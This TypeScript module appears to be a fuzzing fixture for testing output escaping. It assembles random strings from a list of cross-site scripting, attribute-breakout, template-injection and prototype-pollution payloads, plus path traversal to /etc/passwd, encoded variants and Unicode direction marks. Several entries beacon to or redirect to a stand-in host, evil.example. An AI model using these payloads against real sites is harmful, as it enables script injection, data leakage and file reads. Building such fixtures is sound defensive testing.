/** Texts that attack whoever shows them: markup, breakouts of attributes, scripts and templates, addresses that run, marks that turn a text around. */
import { seededRandom } from './seeded.ts'

const pieces = [
  '<script>owned()</script>',
  '"><img src=x onerror=owned()>',
  "'><svg onload=owned()>",
  '<svg><script>owned()</script></svg>',
  '<iframe srcdoc="<script>parent.owned()</script>">',
  '<img src="https://evil.example/seen">',
  '<link rel=stylesheet href=//evil.example/a.css>',
  '<base href=https://evil.example>',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<form action=https://evil.example><input autofocus onfocus=owned()>',
  '<details open ontoggle=owned()>',
  '<a href=javascript:owned()>click</a>',
  '<style>@import"https://evil.example"</style>',
  '" autofocus onfocus="owned()" x="',
  "' onmouseover='owned()",
  "';owned()//",
  '`$' + '{owned()}`',
  '{{constructor.constructor("owned()")()}}',
  'javascript:owned()',
  'data:text/html,<script>owned()</script>',
  '</title>',
  '</textarea>',
  '--><script>owned()</script><!--',
  ']]><script>owned()</script>',
  '&lt;script&gt;owned()&lt;/script&gt;',
  '&#60;script&#62;owned()&#60;/script&#62;',
  '%3Cscript%3Eowned()%3C/script%3E',
  '\\u003cscript\\u003eowned()',
  '__proto__',
  'constructor',
  '../../etc/passwd',
  '%2e%2e%2f',
  '\u202e',
  '\u2028',
  '\u2029',
  '\ufeff',
  '😀',
  '\\',
]

export function hostileTexts(seed: number, count: number): string[] {
  const random = seededRandom(seed)
  const pick = (): string => pieces[Math.floor(random() * pieces.length)] ?? ''
  return Array.from({ length: count }, () => Array.from({ length: 1 + Math.floor(random() * 3) }, pick).join(''))
}
